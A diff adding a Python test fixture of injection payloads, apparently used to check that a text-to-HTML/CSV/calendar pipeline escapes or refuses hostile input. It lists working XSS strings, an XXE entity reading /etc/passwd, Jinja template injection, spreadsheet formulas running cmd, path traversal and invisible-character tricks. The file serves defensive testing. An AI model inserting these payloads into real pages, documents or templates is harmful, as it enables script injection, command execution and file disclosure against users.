@@ -1,0 +1,128 @@
+"""What a hostile text looks like: one entry for each way in which text has become code somewhere.
+
+The characters that nobody could see here are written as escapes. `REFUSED` names those that the two gates stop; the
+others are odd but lawful text, which every output must show as it is.
+"""
+
+from __future__ import annotations
+
+PAYLOADS: dict[str, str] = {
+    # -- elements and handlers
+    "script": "<script>alert(1)</script>",
+    "script-upper": "<SCRIPT SRC=//x.vn/a.js></SCRIPT>",
+    "script-split": "<scr<script>ipt>alert(1)</scr</script>ipt>",
+    "script-slash": "<script/x>alert(1)</script\t>",
+    "script-end": "</script><script>alert(1)</script>",
+    "script-comment": "<!--<script>",
+    "image": "<img src=x onerror=alert(1)>",
+    "image-slash": "<img/src='x'/onerror=alert(1)//",
+    "svg": "<svg/onload=alert(1)>",
+    "svg-animate": '<svg><a xlink:href="javascript:alert(1)"><text y="9">x</text></a></svg>',
+    "math": '<math><mtext><table><mglyph><style><img src onerror="alert(1)">',
+    "body": "<body onload=alert(1)>",
+    "frame": '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>',
+    "object": "<object data=data:text/html,x></object><embed src=x>",
+    "form": '<form action="//x.vn"><button formaction="javascript:alert(1)">x</button></form>',
+    "meta": '<meta http-equiv="refresh" content="0;url=//x.vn">',
+    "base": '<base href="//x.vn/">',
+    "style": "<style>*{background:url(//x.vn)}</style>",
+    "style-end": "</style></title></textarea></noscript></template><b>",
+    "title-end": "</title><img src=x onerror=alert(1)>",
+    "details": "<details open ontoggle=alert(1)>",
+    "anchor": '<a href="jAvAsCrIpT:alert(1)">x</a>',
+    "anchor-tab": '<a href="java\tscript:alert(1)">x</a>',
+    "unclosed": '<a href="x" title="',
+    "unclosed-list": "</li></ul></div></dl></article></main><section>",
+    "comment": "<!-- a --><b>x</b><!--",
+    "declaration": '<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]>&a;',
+    "instruction": '<?xml version="1.0"?><?php echo 1 ?><% x %>',
+    "cdata": "<![CDATA[<b>x</b>]]>",
+    "cdata-end": "]]>",
+    # -- out of an attribute
+    "double-quote": '" onmouseover="alert(1)',
+    "single-quote": "' onmouseover='alert(1)",
+    "backtick": "` onmouseover=`alert(1)",
+    "quote-close": '"><b>x</b>',
+    "entity": "&lt;script&gt;alert(1)&lt;/script&gt;",
+    "entity-number": "&#60;b&#62;x&#x3c;/b&#x3e;",
+    "entity-bare": "&amp &lt &copy &nbsp; &#0; &#xD800;",
+    # -- Jinja and macros
+    "jinja": "{{ 7*7 }}",
+    "jinja-class": "{{ ''.__class__.__mro__[1].__subclasses__() }}",
+    "jinja-block": "{% include 'index.md' %}{% raw %}{# x #}",
+    "jinja-end": "}}{{ config }}{{",
+    "format": "{0} {x.__class__} %s %(x)s ${x} $(id)",
+    # -- Markdown
+    "link": "[x](javascript:alert(1))",
+    "link-outside": "[x](https://x.vn 'x')",
+    "link-auto": "<https://x.vn/><x@x.vn> https://x.vn",
+    "link-data": "[x](data:text/html;base64,PHNjcmlwdD4=)",
+    "link-reference": "[x][1]\n\n[1]: javascript:alert(1)",
+    "image-markdown": "![x](x.png){: onerror=alert(1) }",
+    "attributes": "x {: onclick=alert(1) #a .b }",
+    "attributes-alone": "{: onclick=alert(1) }",
+    "heading": "# x",
+    "heading-under": "x\n===\ny\n---",
+    "emphasis": "**x** __y__ *z* _w_ ~~v~~ ==u== `code`",
+    "fence": "```python\nx\n```",
+    "fence-tilde": "~~~\nx",
+    "block": "\n\n<div markdown='1'>\n\n# x\n\n</div>\n\n",
+    "admonition": "!!! note 'x'\n    y",
+    "table": "| a | b |\n|---|---|\n| 1 | 2 |",
+    "list": "\n\n- x\n1. y\n> z\n",
+    "escape": "\\<b\\> \\{ \\[ \\\\",
+    "placeholder": "\u0002wzxhzdk:0\u0003 \u0002stx\u0003 klzzwxh:1",
+    "footnote": "[^1] *[HTML]: x",
+    "front-matter": "---\ntitle: x\n---",
+    # -- tables and calendars
+    "formula": '=HYPERLINK("http://x.vn","x")',
+    "formula-command": "=cmd|'/C calc'!A0",
+    "formula-plus": "+cmd|'/C calc'!A0",
+    "formula-minus": "-2+3+cmd|'/C calc'!A0",
+    "formula-at": "@SUM(1+1)*cmd|'/C calc'!A0",
+    "formula-tab": "\t=1+1",
+    "formula-line": "x\n=1+1\r\n+1",
+    "formula-semicolon": "x;=1+1;-1",
+    "formula-wide": "＝1+1",
+    "formula-array": "{=1+1}",
+    "formula-quoted": '","=1+1","',
+    "external": "ftp://x.vn internal:B mailto:x@x.vn file:///x",
+    "calendar": "x\r\nEND:VEVENT\r\nBEGIN:VEVENT\r\nSUMMARY:y",
+    "calendar-escaped": "x\\nEND:VEVENT\\, \\;",
+    "calendar-parameter": ';ALTREP="http://x.vn":x,y^n^\'',
+    # -- JSON, JavaScript, XML
+    "json": '","x":{"y":1},"z":"',
+    "json-escape": '\\u003cscript\\u003e \\x3c \\" \\',
+    "script-line": "x\u2028alert(1)\u2029",
+    "script-template": "`${alert(1)}`;alert(1)//",
+    "word": "</w:t></w:r><w:instrText>HYPERLINK x</w:instrText>",
+    "xlsx": "_x003C_ _x00E9_ _x000D_",
+    # -- characters
+    "nul": "x\x00y",
+    "controls": "x\x01\x07\x08\x0b\x0c\x1b[31m\x1fy\x7f\x85",
+    "bidi": "\u202eabc\u202c \u2066x\u2069 \u200f",
+    "zero-width": "<\u200bscript>\u200c\u200d\ufeff\u00ad\u2060",
+    "not-a-character": "x\ufffe\uffff\U0001fffey",
+    "tags": "x\U000e0041\U000e007fy",
+    "decomposed": "Thu\u031b\u0323c hie\u0323\u0302n <\u0338b>",
+    "marks": "x" + "\u0301\u0323" * 40,
+    "surrogates-in-words": "\\ud83d\\ude00 &#xd83d; \U0001f600",
+    "long-word": "a" * 5000,
+    "long-tag": "<" * 500 + "b" + ">" * 500,
+    "quotes": "\"'`“”‘’«»‹›„‚″′＂＇",
+    "wide-markup": "＜script＞alert(1)＜/script＞ ﹤b﹥ \u2039b\u203a",
+    "path": "../../../etc/passwd %2e%2e%2f ..\\..\\x",
+    "address": "//x.vn/y?a=1&b=2#c",
+    "spaces": " \u00a0\u3000\u1680x\u00a0",
+}
+
+# What YAML can write but no file can hold.
+UNWRITABLE = {"surrogate": "x\ud83dy"}
+
+# "hidden-character", "tab", "not-nfc", "code-in-text".
+REFUSED = frozenset({
+    "surrogate", "formula-line", "calendar", "script", "script-upper", "script-split", "script-slash",
+    "script-end", "script-comment", "svg-animate", "form", "anchor", "anchor-tab", "link", "link-reference",
+    "placeholder", "formula-tab", "script-line", "nul", "controls", "bidi", "zero-width", "not-a-character",
+    "tags", "decomposed", "marks",
+})  # fmt: skip
